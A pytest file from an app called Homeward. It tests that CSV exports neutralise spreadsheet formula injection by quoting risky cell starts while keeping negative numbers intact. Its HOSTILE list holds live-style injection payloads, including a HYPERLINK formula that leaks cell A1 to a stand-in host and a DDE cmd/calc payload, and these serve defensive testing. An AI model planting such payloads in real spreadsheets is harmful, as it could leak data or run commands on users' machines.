"""Every CSV or spreadsheet Homeward writes makes text cells inert: a cell starting with
=, +, -, @, a tab or a carriage return gets a leading single quote (OWASP); numbers stay
numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from app.features.reports.services import csv_export, periods
from app.features.reports.services.figures import Figure, FigureKey, FigureStatus, Summary
from app.services import cell_safety

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_gets_a_quote(text: str) -> None:
    assert cell_safety.text_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "release_support", "2026-Q3", "a=b", "'=1", "18-24", "#x"])
def test_other_text_is_kept(text: str) -> None:
    assert cell_safety.text_cell(text) == text


def _summary(figures: list[Figure]) -> Summary:
    period = periods.quarter(2026, 3)
    return Summary(period, (), 5, "NGO", date(2026, 10, 1), {f.key: f for f in figures})


def test_the_quarterly_csv_quotes_hostile_text_and_keeps_negative_numbers() -> None:
    figures = [
        Figure(FigureKey(text, text, text, text, text), 7, FigureStatus.PUBLISHED)
        for text in HOSTILE
    ]
    figures += [
        Figure(FigureKey("change", "all", "total", "total", "2026-Q3"), -3, FigureStatus.PUBLISHED),
        Figure(
            FigureKey("hours", "all", "total", "total", "2026-Q3"), -1.5, FigureStatus.PUBLISHED
        ),
    ]
    rows = list(csv.reader(io.StringIO(csv_export.render(_summary(figures)).decode("utf-8"))))
    for text, row in zip(HOSTILE, rows[1 : 1 + len(HOSTILE)], strict=True):
        assert row[:5] == ["'" + text] * 5
        assert row[5] == "7"
    # A number Homeward computed is a number, not text: no quote in front of the minus.
    assert rows[-2][0] == "change" and rows[-2][5] == "-3"
    assert rows[-1][0] == "hours" and rows[-1][5] == "-1.5"
    for row in rows:
        for cell in row[:5] + row[6:]:
            assert not cell.startswith(cell_safety.FORMULA_STARTS), cell


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|write_only\s*=\s*True|\.to_csv\(")


def test_every_spreadsheet_writer_in_the_app_makes_its_cells_inert() -> None:
    writers = [
        path
        for path in sorted((ROOT / "app").rglob("*.py"))
        if WRITERS.search(path.read_text("utf-8"))
    ]
    assert writers, "the quarterly CSV, at least, is written"
    for path in writers:
        assert "text_cell" in path.read_text("utf-8"), f"{path} writes cells unguarded"
